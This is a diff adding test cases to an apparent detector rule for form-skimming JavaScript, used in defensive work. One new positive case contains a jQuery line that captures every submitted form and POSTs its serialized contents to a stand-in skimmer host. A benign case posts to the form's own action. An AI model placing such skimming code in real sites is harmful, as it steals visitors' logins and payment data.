@@ -23,6 +23,13 @@ examine(skimsForms, {
       },
       weight: 'proof',
     },
+    {
+      when: 'jQuery takes it and sends it',
+      files: {
+        'index.js': `$(document).ready(function () { $('form').on('submit', function () { $.ajax({ url: 'https://skim.invalid/x', type: 'POST', data: $(this).serialize() }); }); });`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
@@ -37,6 +44,12 @@ examine(skimsForms, {
       when: 'a form is made by code',
       files: {
         'index.js': `const d = new FormData(); d.append('file', 'inert'); fetch('https://api.invalid/', { method: 'POST', body: d })`,
+      },
+    },
+    {
+      when: 'a plug-in of jQuery sends a form to where the form says',
+      files: {
+        'index.js': `$.fn.remote = function () { return this.on('submit', function () { $.ajax({ url: this.action, type: 'POST', data: $(this).serialize() }); }); };`,
       },
     },
   ],
